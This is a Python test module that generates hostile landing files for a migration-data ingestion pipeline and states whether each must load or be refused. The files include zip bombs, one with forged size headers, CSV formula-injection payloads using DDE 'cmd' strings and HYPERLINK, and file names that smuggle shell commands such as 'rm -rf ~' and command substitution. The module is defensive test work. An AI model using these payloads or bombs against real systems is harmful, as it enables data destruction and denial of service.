"""A corpus of hostile landing files, written fresh into a directory (nothing hostile is committed).

Every file is derived from a real agency file of ``data/realdata/raw`` (or built from nothing for
binary junk and zip bombs) and comes with what the pipeline must do with it:

* ``same``: decodable (UTF-16 with its BOM, a UTF-8 BOM): loads with the figures of the original;
* ``refused`` (exit 1) or ``unreadable`` (exit 2): refused cleanly, quarantined, nothing published changes;
* ``nonzero``: either of the two (which one is a detail of where the check happens).

``python tests/hostile_corpus.py DIR`` writes the corpus to DIR and lists it (for exploring by hand).
"""

from __future__ import annotations

import codecs
import io
import random
import struct
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from functools import cache
from pathlib import Path

from transforms.readers.excel_reader import MAX_SHEET_CELLS, MAX_XLSX_SHARED_STRINGS, MAX_XLSX_UNCOMPRESSED

ROOT = Path(__file__).resolve().parent.parent
RAW = ROOT / "data" / "realdata" / "raw"
DARIEN = RAW / "panama_darien_2019-2022_by_nationality_derived.csv"
CBP = RAW / "usa_cbp_sbo-encounters-fy22-fy25-aug.csv"
COLOMBIA = RAW / "colombia_entradas_de_extranjeros_a_colombia_20250803.csv"
CANADA = RAW / "canada_ircc_EN_ODP-Asylum-PT_Gender.xlsx"
UNHCR = RAW / "unhcr_refugee_data_finder_solutions_extracted_2024-07-19.csv"

SOURCE_OF = {
    DARIEN: "pan_darien_yearly",
    CBP: "usa_cbp_swb_encounters",
    COLOMBIA: "col_entradas_extranjeros",
    CANADA: "can_ircc_asylum_gender",
    UNHCR: "unhcr_solutions",
}
# Sizes: big enough to take the Arrow fast path (OMH_FAST_CSV_BYTES, 32 MB by default).
BIG = 50 * 1024 * 1024
# The zip bombs are sized against the reader's limits (transforms/readers/excel_reader.py): each
# exceeds the limit it tests (twice the declared-size limit, a quarter more than the shared-string
# and cell limits), and no more: building a 2 GB bomb proves nothing a 200 MB one does not.
BOMB = 2 * MAX_XLSX_UNCOMPRESSED


@dataclass
class Case:
    """One hostile file and what must become of it."""

    name: str  # short id of the case (test ids, the corpus table)
    file_name: str  # the landing file's name (may hold shell characters)
    source: str  # the source id it is sent under
    expect: str  # same | refused | unreadable | nonzero
    build: Callable[[], bytes] = field(repr=False)
    original: Path | None = None  # for ``same``: the file whose figures it must reproduce
    says: str = ""  # a fragment the one-line reason must contain (case-insensitive)
    heavy: bool = False  # tens of MB written or expanded
    keep_out: tuple[str, ...] = ()  # values of the file that must not leave quarantine
    path: Path | None = None

    def write(self, folder: Path) -> Path:
        folder.mkdir(parents=True, exist_ok=True)
        self.path = folder / self.file_name
        self.path.write_bytes(self.build())
        return self.path

    def __reduce__(self):
        # Pickled by name and path (``build`` is a lambda): the corpus runs in another process
        # (tests/background.py) and hands its outcomes back pickled.
        return (_case_named, (self.name, self.path))


def _case_named(name: str, path: Path | None) -> Case:
    return replace(_cases_by_name()[name], path=path)


@cache
def _cases_by_name() -> dict[str, Case]:
    return {case.name: case for case in cases()}


# ---------------------------------------------------------------------------- text helpers


def text(path: Path) -> str:
    return path.read_text(encoding="utf-8")


def darien() -> str:
    return text(DARIEN)


def replace_once(body: str, old: str, new: str) -> str:
    assert old in body, f"{old!r} is not in the file any more: update the corpus"
    return body.replace(old, new, 1)


def cbp_with(column: str, rows: int, make: Callable[[int], str]) -> str:
    """The CBP file with ``column`` of its first ``rows`` data rows replaced by ``make(i)``."""
    lines = text(CBP).splitlines(keepends=True)
    header = lines[0].rstrip("\r\n").split(",")
    idx = header.index(column)
    out = [lines[0]]
    for i, line in enumerate(lines[1:]):
        if i < rows:
            cells = line.rstrip("\r\n").split(",")
            cells[idx] = make(i)
            line = ",".join(cells) + "\n"
        out.append(line)
    return "".join(out)


# ---------------------------------------------------------------------------- XLSX helpers


def _rezip(members: dict[str, bytes], compresslevel: int = 9) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=compresslevel) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def canada_members() -> dict[str, bytes]:
    with zipfile.ZipFile(CANADA) as zf:
        return {info.filename: zf.read(info) for info in zf.infolist()}


_SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
_SHEET_TAIL = b"</sheetData></worksheet>"


def _zip_stream(members: dict[str, bytes], big_name: str, chunks, level: int = 1) -> bytes:
    """A zip where ``big_name`` is written from an iterator of chunks (never all in memory)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as zf:
        for name, data in members.items():
            if name == big_name:
                with zf.open(name, "w", force_zip64=True) as fh:
                    for chunk in chunks():
                        fh.write(chunk)
            else:
                zf.writestr(name, data)
    return buf.getvalue()


_CELLS_PER_ROW = 200
_CELL_ROW = b"<row>" + b'<c t="n"><v>5</v></c>' * _CELLS_PER_ROW + b"</row>"


def sheet_bytes_for(cells: int) -> int:
    """The sheet size ``bomb_cells`` needs to hold at least ``cells`` cells."""
    return -(-cells // _CELLS_PER_ROW) * len(_CELL_ROW) + len(_SHEET_HEAD)


def bomb_cells(uncompressed: int) -> bytes:
    """The Canada workbook whose sheet is ``uncompressed`` bytes of real, tiny cells: a workbook
    small on disk that is millions of cells once parsed."""
    row = _CELL_ROW

    def chunks():
        yield _SHEET_HEAD
        written = len(_SHEET_HEAD)
        block = row * 256
        while written < uncompressed:
            yield block
            written += len(block)
        yield _SHEET_TAIL

    return _zip_stream(canada_members(), "xl/worksheets/sheet1.xml", chunks)


def bomb_strings(uncompressed: int, length: int = 4000) -> bytes:
    """The Canada workbook whose shared-string table is ``uncompressed`` bytes of strings of
    ``length`` characters (openpyxl reads the whole table at open, even in read-only mode)."""
    item = b"<si><t>" + b"A" * length + b"</t></si>"

    def chunks():
        yield (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        )
        written = 0
        block = item * 256
        while written < uncompressed:
            yield block
            written += len(block)
        yield b"</sst>"

    return _zip_stream(canada_members(), "xl/sharedStrings.xml", chunks)


def bomb_declared(uncompressed: int) -> bytes:
    """A zip bomb that says what it is: the central directory declares the expanded size."""

    def chunks():
        yield _SHEET_HEAD
        block = b" " * (1 << 20)
        for _ in range(uncompressed // len(block)):
            yield block
        yield _SHEET_TAIL

    return _zip_stream(canada_members(), "xl/worksheets/sheet1.xml", chunks, level=9)


def bomb_lying(uncompressed: int) -> bytes:
    """A zip bomb whose headers lie: every size field of the expanding member says 1 KB."""
    data = bomb_declared(uncompressed)
    name = b"xl/worksheets/sheet1.xml"
    out = bytearray(data)
    # Central directory entries (PK\x01\x02): uncompressed size at +24 (4 bytes), name length at +28.
    pos = 0
    while (pos := out.find(b"PK\x01\x02", pos)) >= 0:
        n = struct.unpack_from("<H", out, pos + 28)[0]
        extra = struct.unpack_from("<H", out, pos + 30)[0]
        if bytes(out[pos + 46 : pos + 46 + n]) == name:
            struct.pack_into("<I", out, pos + 24, 1024)
            # A zip64 extra field carries the real sizes: make it lie as well.
            epos = pos + 46 + n
            end = epos + extra
            while epos + 4 <= end:
                tag, size = struct.unpack_from("<HH", out, epos)
                if tag == 0x0001 and size >= 8:
                    struct.pack_into("<Q", out, epos + 4, 1024)
                epos += 4 + size
        pos += 4
    return bytes(out)


def xlsx_with_cells(replace: dict[bytes, bytes]) -> bytes:
    """The Canada workbook with byte strings of its shared strings replaced."""
    members = canada_members()
    sst = members["xl/sharedStrings.xml"]
    for old, new in replace.items():
        assert old in sst, f"{old!r} is not in the workbook's shared strings any more"
        sst = sst.replace(old, new, 1)
    members["xl/sharedStrings.xml"] = sst
    return _rezip(members)


# ---------------------------------------------------------------------------- the corpus


def _rng() -> random.Random:
    return random.Random(20261127)


def cases(include_heavy: bool = True) -> list[Case]:
    """Every hostile case (not yet written)."""
    d = "pan_darien_yearly"
    c = "usa_cbp_swb_encounters"
    k = "can_ircc_asylum_gender"
    out = [
        # -- empty and structural
        Case("empty", "darien_empty.csv", d, "nonzero", lambda: b""),
        Case(
            "header_only",
            "darien_header_only.csv",
            d,
            "refused",
            lambda: b"toShow,year,total\n",
            says="no data rows",
        ),
        Case(
            "header_then_blank_lines",
            "darien_blank.csv",
            d,
            "refused",
            lambda: b"toShow,year,total\r\n\r\n,,\r\n\r\n",
            says="no data rows",
        ),
        Case(
            "truncated_mid_row",
            "darien_truncated.csv",
            d,
            "nonzero",
            lambda: darien()[: darien().index("Venezuela,2022") + len("Venezuela,20")].encode(),
        ),
        Case(
            "short_row",
            "darien_short_row.csv",
            d,
            "nonzero",
            lambda: replace_once(darien(), "Cuba,2021,17603", "Cuba,2021").encode(),
        ),
        Case(
            "long_row",
            "darien_long_row.csv",
            d,
            "nonzero",
            lambda: replace_once(darien(), "Cuba,2021,17603", "Cuba,2021,17,603").encode(),
        ),
        Case(
            "unterminated_quote",
            "darien_quote.csv",
            d,
            "nonzero",
            lambda: replace_once(darien(), "Cuba,2021,17603", 'Cuba,2021,"17603').encode(),
        ),
        # -- delimiters and encodings
        Case(
            "semicolons", "darien_semicolon.csv", d, "unreadable", lambda: darien().replace(",", ";").encode()
        ),
        Case("tabs", "darien_tabs.csv", d, "unreadable", lambda: darien().replace(",", "\t").encode()),
        Case(
            "latin1",
            "darien_latin1.csv",
            d,
            "unreadable",
            lambda: darien().encode("latin-1"),
            says="not valid",
        ),
        Case(
            "utf16le_bom",
            "darien_utf16le.csv",
            d,
            "same",
            lambda: codecs.BOM_UTF16_LE + darien().encode("utf-16-le"),
            original=DARIEN,
        ),
        Case(
            "utf16be_bom",
            "darien_utf16be.csv",
            d,
            "same",
            lambda: codecs.BOM_UTF16_BE + darien().encode("utf-16-be"),
            original=DARIEN,
        ),
        Case(
            "utf8_bom",
            "darien_utf8bom.csv",
            d,
            "same",
            lambda: codecs.BOM_UTF8 + darien().encode(),
            original=DARIEN,
        ),
        Case(
            "utf16_crlf_bom",
            "darien_utf16_crlf.csv",
            d,
            "same",
            lambda: codecs.BOM_UTF16_LE + darien().replace("\n", "\r\n").encode("utf-16-le"),
            original=DARIEN,
        ),
        Case("utf16_no_bom", "darien_utf16_nobom.csv", d, "unreadable", lambda: darien().encode("utf-16-le")),
        Case(
            "bom_then_latin1",
            "darien_bom_latin1.csv",
            d,
            "unreadable",
            lambda: codecs.BOM_UTF8 + darien().encode("latin-1"),
        ),
        Case(
            "nul_bytes",
            "darien_nul.csv",
            d,
            "unreadable",
            lambda: replace_once(darien(), "Cuba,2021", "Cu\x00ba,2021").encode(),
            says="NUL",
        ),
        Case("binary", "darien_binary.csv", d, "unreadable", lambda: _rng().randbytes(64 * 1024)),
        Case("gzip_as_csv", "darien_gzip.csv", d, "unreadable", lambda: _gzip(darien().encode())),
        # -- enormous fields and lines
        Case(
            "huge_field",
            "darien_huge_field.csv",
            d,
            "nonzero",
            lambda: replace_once(darien(), "Cuba,2021", '"' + "Cuba" * 500_000 + '",2021').encode(),
        ),
        Case(
            "wide_header",
            "darien_wide.csv",
            d,
            "nonzero",
            lambda: _wide(darien(), 200_000).encode(),
        ),
        Case(
            "single_line_50mb",
            "darien_one_line.csv",
            d,
            "nonzero",
            lambda: b"toShow,year,total\nBrasil,2019," + b"9" * BIG,
            heavy=True,
        ),
        Case(
            "no_newline_50mb",
            "darien_no_newline.csv",
            d,
            "nonzero",
            lambda: b"toShow,year,total" + b",x" * (BIG // 2),
            heavy=True,
        ),
        Case(
            "tiny_cells_31mb",
            "darien_tiny_cells.csv",
            d,
            "nonzero",
            lambda: b"toShow,year,total\n" + b"Cuba,2019,1\n" * (31 * 1024 * 1024 // 12),
            heavy=True,
        ),
        Case(
            "utf16_40mb",
            "darien_utf16_big.csv",
            d,
            "nonzero",
            lambda: (
                codecs.BOM_UTF16_LE
                + ("toShow,year,total\n" + "Cuba,2019,1\n" * 1_700_000).encode("utf-16-le")
            ),
            heavy=True,
        ),
        Case(
            "wide_rows_4k",
            "darien_wide_rows.csv",
            d,
            "same",
            lambda: _wide_rows(darien(), 4_000).encode(),
            original=DARIEN,
        ),
        Case(
            "wide_16k_by_2000",
            "darien_wide_2000.csv",
            d,
            "unreadable",
            lambda: _wide_rows("toShow,year,total\n" + "Cuba,2019,1\n" * 2000, 16_000).encode(),
            heavy=True,
        ),
        # -- workbooks
        Case("csv_named_xlsx", "Asylum_Gender.xlsx", k, "unreadable", lambda: darien().encode()),
        Case(
            "xlsx_truncated",
            "Asylum_Gender_truncated.xlsx",
            k,
            "unreadable",
            lambda: CANADA.read_bytes()[: CANADA.stat().st_size // 2],
        ),
        Case(
            "xlsx_broken_xml",
            "Asylum_Gender_broken.xlsx",
            k,
            "unreadable",
            lambda: _rezip(
                {**canada_members(), "xl/worksheets/sheet1.xml": b"<worksheet><sheetData><row><c"}
            ),
        ),
        Case(
            "xls_junk",
            "Asylum_Gender_ole.xlsx",
            k,
            "unreadable",
            lambda: b"\xd0\xcf\x11\xe0" + b"\x00" * 4096,
        ),
        Case(
            "zip_bomb_declared",
            "Asylum_Gender_bomb.xlsx",
            k,
            "unreadable",
            lambda: bomb_declared(BOMB),
            says="zip bomb",
            heavy=True,
        ),
        Case(
            "zip_bomb_lying",
            "Asylum_Gender_bomb_lying.xlsx",
            k,
            "unreadable",
            lambda: bomb_lying(BOMB),
            heavy=True,
        ),
        Case(
            "zip_bomb_cells",
            "Asylum_Gender_bomb_cells.xlsx",
            k,
            "unreadable",
            # Under the declared-size limit, a quarter over the cell limit: parsed until that stops it.
            lambda: bomb_cells(sheet_bytes_for(MAX_SHEET_CELLS * 5 // 4)),
            says="cells",
            heavy=True,
        ),
        Case(
            "zip_bomb_big_sheet",
            "Asylum_Gender_bomb_sheet.xlsx",
            k,
            "unreadable",
            lambda: bomb_cells(BOMB),
            says="zip bomb",
            heavy=True,
        ),
        Case(
            "zip_bomb_strings",
            "Asylum_Gender_bomb_strings.xlsx",
            k,
            "unreadable",
            # Under the declared-size limit of the whole workbook, a quarter over the shared-string
            # limit: refused by that one, before openpyxl reads the table.
            lambda: bomb_strings(MAX_XLSX_SHARED_STRINGS * 5 // 4),
            says="zip bomb",
            heavy=True,
        ),
        Case(
            "many_shared_strings",
            "Asylum_Gender_strings.xlsx",
            k,
            "nonzero",
            lambda: bomb_strings(60 * 1024**2, length=8),
            heavy=True,
        ),
        Case(
            "xlsx_huge_cell",
            "Asylum_Gender_huge_cell.xlsx",
            k,
            "nonzero",
            lambda: xlsx_with_cells({b"<t>Female</t>": b"<t>" + b"F" * (20 * 1024**2) + b"</t>"}),
            heavy=True,
        ),
        # -- values
        Case(
            "duplicate_rows",
            "darien_dupes.csv",
            d,
            "refused",
            lambda: replace_once(
                darien(), "Cuba,2021,17603\n", "Cuba,2021,17603\nCuba,2021,17603\n"
            ).encode(),
            says="duplicate",
        ),
        Case(
            "text_count",
            "darien_text.csv",
            d,
            "refused",
            lambda: replace_once(darien(), "Cuba,2021,17603", "Cuba,2021,diecisiete mil").encode(),
        ),
        Case(
            "negative",
            "darien_negative.csv",
            d,
            "refused",
            lambda: replace_once(darien(), "Cuba,2021,17603", "Cuba,2021,-17603").encode(),
        ),
        Case(
            "implausible_1e12",
            "darien_1e12.csv",
            d,
            "refused",
            lambda: replace_once(darien(), "Cuba,2021,17603", "Cuba,2021,1000000000000").encode(),
        ),
        Case(
            "exponent",
            "darien_exponent.csv",
            d,
            "refused",
            lambda: replace_once(darien(), "Cuba,2021,17603", "Cuba,2021,1e12").encode(),
        ),
        Case(
            "nan_inf",
            "darien_nan.csv",
            d,
            "refused",
            lambda: replace_once(darien(), "Cuba,2021,17603", "Cuba,2021,inf").encode(),
        ),
        Case(
            "fractional",
            "darien_fraction.csv",
            d,
            "refused",
            lambda: replace_once(darien(), "Cuba,2021,17603", "Cuba,2021,17603.5").encode(),
        ),
        Case(
            "future_2091",
            "darien_2091.csv",
            d,
            "refused",
            lambda: darien().replace(",2022,", ",2091,").encode(),
        ),
        Case(
            "future_cbp_fy2091",
            "sbo-encounters-fy2091.csv",
            c,
            "refused",
            lambda: text(CBP).replace("\n2025 (FYTD),", "\n2091 (FYTD),").encode(),
        ),
        # -- another country's file
        Case("colombia_as_darien", "darien_colombia.csv", d, "refused", lambda: COLOMBIA.read_bytes()),
        Case("cbp_as_darien", "darien_cbp.csv", d, "refused", lambda: CBP.read_bytes()),
        Case("darien_as_cbp", "sbo-encounters-darien.csv", c, "nonzero", lambda: DARIEN.read_bytes()),
        Case(
            "own_nationals",
            "darien_panama.csv",
            d,
            "refused",
            lambda: darien().replace("Otros Paises,", "Panamá,").encode(),
            says="another country",
        ),
        Case(
            "cbp_us_citizens",
            "sbo-encounters-us.csv",
            c,
            "refused",
            lambda: text(CBP).replace(",Mexico,", ",United States,").encode(),
            says="another country",
        ),
        # -- formulas in labels
        Case(
            "formula_label_known_column",
            "darien_formula.csv",
            d,
            "refused",
            lambda: replace_once(
                darien(), "Cuba,2021", '"=HYPERLINK(""http://x.example/?""&A1,""Cuba"")",2021'
            ).encode(),
        ),
        Case(
            "formula_label_detail_eq",
            "sbo-encounters-formula.csv",
            c,
            "refused",
            lambda: cbp_with("Component", 3, lambda i: "=1+1").encode(),
            says="formula",
        ),
        Case(
            "formula_label_detail_plus",
            "sbo-encounters-plus.csv",
            c,
            "refused",
            lambda: cbp_with("Title of Authority", 3, lambda i: "+cmd|' /C calc'!A0").encode(),
            says="formula",
        ),
        Case(
            "formula_label_detail_minus",
            "sbo-encounters-minus.csv",
            c,
            "refused",
            lambda: cbp_with("Title of Authority", 3, lambda i: "-2+3+cmd|' /C calc'!A0").encode(),
            says="formula",
        ),
        Case(
            "formula_label_detail_at",
            "sbo-encounters-at.csv",
            c,
            "refused",
            lambda: cbp_with("Component", 3, lambda i: "@SUM(1+1)*cmd|' /C calc'!A0").encode(),
            says="formula",
        ),
        Case(
            "formula_label_xlsx",
            "Asylum_Gender_formula.xlsx",
            k,
            "refused",
            lambda: xlsx_with_cells({b"Prince Edward Island": b"=HYPERLINK(&quot;http://x&quot;)"}),
            says="formula",
        ),
        # -- personal data
        Case(
            "pii_passport_column",
            "darien_pasaportes.csv",
            d,
            "refused",
            lambda: _with_column(darien(), "Pasaporte", lambda i: f"P{4_000_000 + i * 7919:08d}").encode(),
            says="person-level",
            keep_out=("P04000000", "P04007919"),
        ),
        Case(
            "pii_person_file",
            "darien_personas.csv",
            d,
            "refused",
            lambda: _person_file().encode(),
            says="person-level",
            keep_out=tuple(_person_file().splitlines()[1].split(",")[2:5:2]),
        ),
        Case(
            "pii_passport_values",
            "sbo-encounters-passports.csv",
            c,
            "refused",
            lambda: cbp_with("Title of Authority", 40, lambda i: f"G{31_000_000 + i * 7919}").encode(),
            says="person-level",
            keep_out=("G31000000", "G31007919"),
        ),
        Case(
            "pii_birth_dates",
            "sbo-encounters-births.csv",
            c,
            "refused",
            lambda: cbp_with(
                "Component", 40, lambda i: f"{1970 + i % 30}-{1 + i % 12:02d}-{3 + i % 25:02d}"
            ).encode(),
            says="person-level",
            keep_out=("1970-01-03", "1971-02-04"),
        ),
    ]
    # -- file names a shell would love: refused content, so each is quarantined under its name. The
    # content is refused by the formula guard (the names, not the content, are what these cases
    # test; the suites' refusals are the cases above), so each name costs no GX run.
    formula = replace_once(darien(), "Cuba,2021,17603", "=1+1,2021,17603")
    for name, file_name in (
        ("name_semicolon_rm", "darien; rm -rf ~ #.csv"),
        ("name_command_subst", "darien$(touch OMH_PWNED).csv"),
        ("name_backticks", "darien`touch OMH_PWNED`.csv"),
        ("name_quotes", "darien 'quoted' \"double\".csv"),
        ("name_spaces", "darien   with  spaces .csv"),
        ("name_unicode", "darién_ñandú_日本語_🚀.csv"),
        ("name_dash", "-darien --help.csv"),
        ("name_newline", "darien\nsecond line.csv"),
        ("name_long", "darien_" + "x" * 240 + ".csv"),
        ("name_glob", "darien*?[a].csv"),
        ("name_invalid_utf8", "darien_\udcff\udcfe.csv"),
    ):
        expect, says = (
            ("unreadable", "not valid UTF-8") if name == "name_invalid_utf8" else ("refused", "formula")
        )
        out.append(Case(name, file_name, d, expect, lambda body=formula: body.encode(), says=says))
    return [case for case in out if include_heavy or not case.heavy]


def _gzip(data: bytes) -> bytes:
    import gzip

    return gzip.compress(data, mtime=0)


def _wide(body: str, extra: int) -> str:
    lines = body.splitlines()
    head = lines[0] + "".join(f",c{i}" for i in range(extra))
    return "\n".join([head, *lines[1:]]) + "\n"


def _wide_rows(body: str, extra: int) -> str:
    lines = body.splitlines()
    pad = "," * extra
    head = lines[0] + "".join(f",c{i}" for i in range(extra))
    return "\n".join([head, *(line + pad for line in lines[1:])]) + "\n"


def _with_column(body: str, header: str, make: Callable[[int], str]) -> str:
    lines = body.splitlines()
    out = [f"{lines[0]},{header}"]
    out += [f"{line},{make(i)}" for i, line in enumerate(lines[1:])]
    return "\n".join(out) + "\n"


def _person_file() -> str:
    rng = _rng()
    first = ["María", "José", "Ana", "Luis", "Carmen", "Jean", "Rosa", "Pedro"]
    last = ["Pérez", "Gómez", "Joseph", "Rodríguez", "Mendoza", "Louis", "Castillo"]
    nations = ["Venezuela", "Haití", "Ecuador", "Cuba", "Colombia"]
    rows = ["Nombre,Apellido,Pasaporte,Nacionalidad,Fecha de nacimiento,Fecha de ingreso"]
    for _ in range(60):
        rows.append(
            f"{rng.choice(first)},{rng.choice(last)},{rng.choice('ABCDEFG')}{rng.randint(10**7, 10**8 - 1)},"
            f"{rng.choice(nations)},{rng.randint(1960, 2010)}-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d},"
            f"2022-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}"
        )
    return "\n".join(rows) + "\n"


def build(folder: Path, include_heavy: bool = True) -> list[Case]:
    """Write every case into ``folder`` (one file per case; names as the cases say)."""
    written = []
    for case in cases(include_heavy):
        case.write(folder)
        written.append(case)
    return written


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile")
    for case in build(target, include_heavy="--light" not in sys.argv):
        print(
            f"{case.name:28} {case.source:26} {case.expect:10} {case.path.stat().st_size:>12}  {case.file_name!r}"
        )


# ---------------------------------------------------------------------------- running omh


# Runs one command and reports its own RUSAGE_CHILDREN: the peak RSS and CPU time of that command alone.
_LAUNCHER = r"""
import json, os, resource, signal, subprocess, sys, time
spec = json.loads(sys.argv[1])
started = time.perf_counter()
with open(spec["stdout"], "wb") as out, open(spec["stderr"], "wb") as err:
    proc = subprocess.Popen(spec["cmd"], env=spec["env"], cwd=spec["cwd"], stdout=out, stderr=err)
    try:
        rc, timed_out = proc.wait(timeout=spec["timeout"]), False
    except subprocess.TimeoutExpired:
        proc.send_signal(signal.SIGKILL)
        rc, timed_out = proc.wait(), True
usage = resource.getrusage(resource.RUSAGE_CHILDREN)
print(json.dumps({"rc": rc, "seconds": time.perf_counter() - started, "cpu_seconds": usage.ru_utime + usage.ru_stime,
                  "peak_mb": usage.ru_maxrss / 1024, "timed_out": timed_out}))
"""


@dataclass
class Run:
    rc: int
    stdout: str
    stderr: str
    seconds: float
    peak_mb: float
    timed_out: bool
    cpu_seconds: float = 0.0  # user + system time of the command (what it costs a shared machine)

    @property
    def output(self) -> str:
        return self.stdout + self.stderr


def omh_env(home: Path, pycache: Path | None = None, **extra: str) -> dict[str, str]:
    """The environment of an ``omh`` child: its own OMH_HOME and the embedded warehouse, and a
    bytecode cache shared by the test session (with PYTHONDONTWRITEBYTECODE each child would
    compile Great Expectations again: 15 s each)."""
    import os

    env = {k: v for k, v in os.environ.items() if k not in ("OMH_WAREHOUSE_URL", "PYTHONDONTWRITEBYTECODE")}
    env["OMH_HOME"] = str(home)
    if pycache is not None:
        env["PYTHONPYCACHEPREFIX"] = str(pycache)
    env.update(extra)
    return env


def run_omh(args: list[str], env: dict[str, str], work: Path, timeout: float = 300) -> Run:
    """``omh ARGS`` as a child process (never through a shell), with its time and peak memory."""
    import json
    import subprocess
    import uuid

    work.mkdir(parents=True, exist_ok=True)
    tag = uuid.uuid4().hex[:8]
    out, err = work / f"{tag}.out", work / f"{tag}.err"
    omh = Path(sys.executable).parent / "omh"
    spec = {
        "cmd": [str(omh), *args],
        "env": env,
        "cwd": str(work),
        "stdout": str(out),
        "stderr": str(err),
        "timeout": timeout,
    }
    launched = subprocess.run(
        [sys.executable, "-c", _LAUNCHER, json.dumps(spec)],
        capture_output=True,
        text=True,
        timeout=timeout + 60,
    )
    meta = json.loads(launched.stdout.strip().splitlines()[-1])
    return Run(
        meta["rc"],
        out.read_text(encoding="utf-8", errors="replace"),
        err.read_text(encoding="utf-8", errors="replace"),
        meta["seconds"],
        meta["peak_mb"],
        meta["timed_out"],
        meta["cpu_seconds"],
    )


# ---------------------------------------------------------------------------- what is published


def publish(home: Path, pycache: Path | None = None) -> Path:
    """A warehouse and lake at ``home`` that publish the real Darién and CBP figures, loaded by
    ``omh ingest`` (the warehouse the corpus and the fault tests work on copies of)."""
    for path, source in ((DARIEN, "pan_darien_yearly"), (CBP, "usa_cbp_swb_encounters")):
        run = run_omh(["ingest", str(path), "--source", source], omh_env(home, pycache), home.parent / "w")
        assert run.rc == 0, run.output
    (total, per) = figures(home)
    assert dict((s, (n, v)) for s, n, v in per) == {
        "pan_darien_yearly": (28, 404_516),
        "usa_cbp_swb_encounters": (1936, 7_421_677),
    }, per
    return home


def figures(home: Path) -> tuple:
    """(count, sum of value) of fact_flow, and the same per source: what analysts see."""
    import duckdb

    con = duckdb.connect(str(home / "warehouse.duckdb"), read_only=True)
    try:
        total = con.execute("SELECT count(*), sum(value) FROM fact_flow").fetchall()[0]
        per = con.execute(
            "SELECT source_id, count(*), sum(value) FROM fact_flow GROUP BY 1 ORDER BY 1"
        ).fetchall()
    finally:
        con.close()
    return tuple(total), tuple(per)


def observations(home: Path, source_id: str) -> list[tuple]:
    """Every published observation of a source (key and figure), sorted."""
    import duckdb

    con = duckdb.connect(str(home / "warehouse.duckdb"), read_only=True)
    try:
        return con.execute(
            "SELECT reporter_iso3, flow_type, citizenship_iso3, counterpart_iso3, period_start, period_end, "
            "sex, age_band, unit, detail, value, obs_status, conf_status FROM fact_flow WHERE source_id = ? "
            "ORDER BY ALL",
            [source_id],
        ).fetchall()
    finally:
        con.close()


def lake_state(home: Path) -> dict[str, str]:
    """Every lake file (leaves and strays) with the sha256 of its bytes."""
    import hashlib

    lake = home / "lake"
    return {
        p.relative_to(lake).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(lake.rglob("*"))
        if p.is_file()
    }


# ---------------------------------------------------------------------------- a large release


def cbp_release(copies: int) -> bytes:
    """A large CBP release in the real file's format: every real row revised (+1), plus
    ``copies - 1`` more rows per real row under other component names (new observations)."""
    lines = text(CBP).splitlines()
    header = lines[0].split(",")
    comp, count = header.index("Component"), header.index("Encounter Count")
    out = [lines[0]]
    for line in lines[1:]:
        cells = line.split(",")
        if len(cells) != len(header):  # a quoted field: keep the line as it is
            out.append(line)
            continue
        value = int(cells[count].replace('"', "").replace(",", "") or 0)
        for k in range(copies):
            row = list(cells)
            if k:
                row[comp] = f"{cells[comp]} unit {k}"
            row[count] = str(value + 1 + k)
            out.append(",".join(row))
    return ("\n".join(out) + "\n").encode()
